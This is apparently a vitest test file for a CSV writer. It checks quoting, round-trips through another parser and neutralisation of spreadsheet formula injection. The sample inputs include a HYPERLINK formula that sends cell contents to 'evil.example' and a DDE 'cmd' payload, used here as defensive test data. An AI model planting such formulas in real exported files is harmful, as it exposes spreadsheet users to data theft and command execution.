import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { BYTE_ORDER_MARK, type Cell, csvOf } from '../../src/contract/csv.ts';

/** What a reader that others have written makes of it. */
const read = (text: string, options = {}): string[][] =>
  parse(text, { bom: true, relax_column_count: true, record_delimiter: '\r\n', ...options });

test('a table is text that a spreadsheet reads', () => {
  const rows = [
    ['Person', 'Pages', 'Active'],
    ['Lovelace, "Ada"', 3, true],
    [null, -1.5, false],
    ['two\nlines', -1, 'three\r\nlines'],
  ];
  expect(csvOf(rows)).toBe(
    'Person,Pages,Active\r\n"Lovelace, ""Ada""",3,true\r\n,-1.5,false\r\n"two\nlines",-1,"three\r\nlines"\r\n',
  );
});

describe('what a spreadsheet would compute is text', () => {
  it.each([
    ['=1+1', `'=1+1`],
    ['=HYPERLINK("http://evil.example/?"&A1)', `'=HYPERLINK("http://evil.example/?"&A1)`],
    ['+1', `'+1`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(1)', `'@SUM(1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['\n=1', `'\n=1`],
    ['\0=1', `'\0=1`],
    ['＝1+1', `'＝1+1`],
    ['＋1', `'＋1`],
    ['－1', `'－1`],
    ['＠SUM(1)', `'＠SUM(1)`],
  ])('%j', (typed, harmless) => expect(read(csvOf([[typed, 'x']]))).toEqual([[harmless, 'x']]));

  it.each(['a=1', ' x', '1-1', '{"a":"=1"}', '["=1"]', `'=1`, 'ada@example.com', '😀=1', ''])(
    'and %j stays as it is',
    (typed) => expect(read(csvOf([[typed, 'x']]))).toEqual([[typed, 'x']]),
  );

  it('and numbers stay numbers', () => expect(csvOf([[-1, 0]])).toBe('-1,0\r\n'));
});

const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({
    unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', '-', '@', '\t', "'", ';', ' ', 'é', '😀', '\0'),
  }),
);
const cell: fc.Arbitrary<Cell> = fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(null));
const shown = (value: Cell) => (value === null ? '' : String(value));

test('another program reads back what was written', () => {
  fc.assert(
    fc.property(
      fc.array(fc.array(cell, { minLength: 2, maxLength: 6 }), { minLength: 1, maxLength: 6 }),
      (rows) => {
        const back = read(csvOf(rows));
        expect(back).toHaveLength(rows.length);
        for (const [at, row] of rows.entries()) {
          const cells = back[at] ?? [];
          expect(cells).toHaveLength(row.length);
          for (const [column, value] of row.entries()) {
            const got = cells[column] ?? '';
            const harmless = typeof value === 'string' && got === `'${value}`;
            if (!harmless) expect(got).toBe(shown(value));
            if (typeof value === 'string') expect(got).not.toMatch(/^[=+\-@\t\r\n\0]/);
          }
        }
      },
    ),
    { numRuns: 500 },
  );
});

test('a byte order mark is none of the first cell', () => {
  expect(read(BYTE_ORDER_MARK + csvOf([['a', 'b']]))).toEqual([['a', 'b']]);
});
